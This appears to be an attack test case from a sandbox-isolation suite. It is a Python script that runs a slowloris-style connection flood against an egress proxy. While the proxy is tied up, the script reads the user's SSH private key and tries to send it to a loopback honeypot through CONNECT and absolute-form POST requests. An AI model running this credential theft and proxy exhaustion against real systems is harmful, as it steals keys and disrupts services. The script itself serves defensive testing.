# family: injection
# tries: slowloris against stockade-proxy: 40 connections that send nothing or half a head, then, while they hold it, the SSH key and a PWNED marker to the unlisted honeypot by CONNECT and absolute-form
# source: https://en.wikipedia.org/wiki/Slowloris_(computer_security)
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: past max_concurrent_connections (32) the proxy closes new
# connections (budget); a loaded proxy still refuses the unlisted target
# (not_allowed) rather than failing open, and still answers: the attack
# prints how long the last request took. No key reaches the honeypot.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.1", port)[:60])
    sys.exit(0)
import time

held = []
for i in range(40):
    try:
        s = socket.create_connection((pxhost, int(pxport)), timeout=1)
        if i % 2:
            s.sendall(b"CONNECT 127.0.0.2:" + str(port).encode() + b" HTTP/1.1\r\n")
        held.append(s)
    except OSError as e:
        print(f"connection {i}: {e}")
print(f"holding {len(held)} connections")
t = time.monotonic()
req = f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
print("CONNECT", talk(req + loot)[:40])
req = (f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
       f"Content-Length: {len(loot)}\r\n\r\n").encode() + loot
print("absolute", talk(req)[:40], f"{time.monotonic() - t:.2f} s")
for s in held:
    s.close()
